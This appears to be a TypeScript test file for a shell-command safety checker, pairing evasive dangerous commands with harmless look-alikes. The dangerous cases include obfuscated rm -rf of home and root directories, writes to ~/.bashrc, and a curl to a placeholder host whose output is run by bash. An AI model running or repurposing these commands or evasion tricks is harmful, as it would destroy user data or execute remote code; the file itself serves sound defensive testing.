import { describeCommands } from "@/lib/testing/describe-commands";

describeCommands(
  "all that several commands print counts",
  [
    "eval \"$(echo 'rm -rf ~/mail'; echo pwd)\"",
    "{ printf 'rm -rf ~/mail\\n'; echo pwd; } | bash",
    'J=$(curl -s https://x.example/i; echo pwd); bash -c "$J"',
    "rm -rf $(echo ~/mail; echo out)",
    'rm -rf "$([ -e y ] && echo ~/mail || echo out)"',
    "{ echo ~/mail; echo out; } | xargs rm -rf",
    "echo pwd > s; echo 'rm -rf ~/mail' | cat - s | sh",
  ],
  [
    "eval \"$(echo 'ls'; echo pwd)\"",
    'cd "$(cd "$(dirname "$0")" && pwd)" && ls',
    "{ echo out; echo build; } | xargs ls",
    'V=$(mkdir -p out && echo 1.0); echo "$V"',
  ],
);

describeCommands(
  "a format is read as printf reads it",
  [
    "bash -c \"$(printf -- 'rm -rf ~/mail')\"",
    'printf -v K -- "%s" ~/mail; rm -rf "$K"',
    "rm -rf \"$(printf '\\u002e\\u002e/\\u002e\\u002e')\"",
  ],
  ["printf -- '%s\\n' done", 'printf -v K -- "%s" out; ls "$K"'],
);

describeCommands(
  "an element that a number chooses is that one, or not known",
  [
    'L=(out ~/mail); rm -rf "${L[$((2-1))]}"',
    'L=(out ~/mail); j=0; ((j++)); rm -rf "${L[$j]}"',
    'L=([1]=~/mail [0]=out); rm -rf "${L[1]}"',
    'L=(out ~/mail); L=out; rm -rf "${L[@]}"',
    'L=(out out); read "L[1]" <<< ~/mail; rm -rf "${L[@]}"',
    'Y=out; declare -n q=Y; q=~/mail; rm -rf "$Y"',
  ],
  ['L=(out build); rm -rf "${L[$((2-1))]}"', 'declare -A m; m[a]=out; ls "${m[a]}"', "echo part $((1+2)) of $#"],
);

describeCommands(
  "what is read, and where from",
  [
    'read Y <<< ~/mail 4<<< out; rm -rf "$Y"',
    "cd ~/mail; pushd /tmp/p; pushd /tmp/q; popd; popd; rm -rf ./*",
    "cd ~/mail; cd /tmp/p; rm -rf ~-/*",
    "find /tmp/p ~/mail -type f -exec rm -f {} +",
  ],
  ['read Y <<< out; ls "$Y"', "pushd packages/a; npm test; popd; ls", "find src tests -name '*.pyc' -exec rm -f {} +"],
);

describeCommands(
  "what the shell itself or a script given to it writes to a file is written",
  [
    "cd . > ~/.bashrc",
    "popd > ~/.bashrc",
    "mapfile X > ~/.bashrc",
    "eval 'echo x' >> ~/.bashrc",
    "bash -c 'echo x' >> ~/.bashrc",
    "sudo bash -c 'echo x' >> ~/.bashrc",
    "env -S 'echo x' >> ~/.bashrc",
    "watch 'echo x' >> ~/.bashrc",
    "parallel 'echo {}; ls' ::: a >> ~/.bashrc",
    "bash -c 'echo \"rm -rf ~\"' > t.sh; sh t.sh",
  ],
  [
    "cd src > /dev/null && ls",
    "bash -c 'npm test' > out.log 2>&1",
    "bash -c 'make' 2> err.log",
    "bash -c 'find . -name x' 2>/dev/null | xargs rm -f",
    "eval 'npm test' 2>&1 | tail -3",
    "bash -c 'echo ls' > t.sh; sh t.sh",
  ],
);

describeCommands(
  "what takes the output runs, also where there is none",
  ["cd >(rm -rf ~)", "shift >(rm -rf ~)", "cd . > >(rm -rf ~)", "cd >(cd >(rm -rf ~))"],
  ["cd . > >(tee out.log)", "ls > >(tee out.log)"],
);

describeCommands(
  "a file that is read in is the one in the directory of that moment",
  [
    'echo out > f; cd /tmp; echo / > f; read Y < f; rm -rf "$Y"',
    'echo out > f; cd /tmp; echo / > f; rm -rf "$(cat < f)"',
    "cd /tmp; echo 'rm -rf /' > f; bash < f",
  ],
  ['cd /tmp; echo out > f; read Y < f; ls "$Y"'],
);

const LONG = "a ".repeat(2_100);
const RETURNS = Array.from({ length: 40 }, (_, i) => `[ "$1" = ${i} ] && return;`).join(" ");
const NAMED = Array.from({ length: 205 }, (_, i) => `M[k${i}]=out;`).join(" ");

describeCommands(
  "what a pattern substitutes runs",
  ["case x in $(rm -rf ~)) ls;; esac", 'case x in a|"`rm -rf ~`") ls;; esac'],
  ['case "$1" in *.txt|"$(basename out)") ls;; *) pwd;; esac'],
);

describeCommands(
  "nothing is left out for being long or many",
  [
    `f() { ${RETURNS} if [ "$1" = x ]; then X='rm -rf /'; return; fi; X=ls; }; f "$2"; $X`,
    `L=(out ~/mail); i=0; let "${"a=1,".repeat(60)}i=1"; rm -rf "\${L[$i]}"`,
    `declare -A M; ${NAMED} M[z]=~/mail; rm -rf "\${M[@]}"`,
    `test -v 'x[${LONG}$(rm -rf /)]'`,
    `echo '{"scripts":{"x":"echo ${LONG}; rm -rf /"}}' > package.json && npm run x`,
    `psql -c "select '${LONG}' \\! rm -rf /"`,
    `sed '/${LONG}/e rm -rf /' f`,
    "sed '/class/s/a/rm -rf \\//e' f",
    `sed '/a/,/${LONG}/s/a/rm -rf \\//e' f`,
    `sed '${"p;".repeat(60)}e rm -rf /' f`,
    `sed '${"{".repeat(9)}e rm -rf /\n${"}".repeat(9)}' f`,
    `make --eval 'x := $(shell echo ${LONG}; rm -rf /)'`,
    `gdb -ex 'pipe p ${LONG} | rm -rf /' x`,
    `expect -c 'exec echo ${LONG} && rm -rf /'`,
  ],
  [
    `f() { ${RETURNS} X=ls; }; f "$2"; $X`,
    "sed '/class/s/a/b/' f",
    "sed -n '/start/,/end/p' f",
    `psql -d app -c "select '${LONG}'"`,
  ],
);
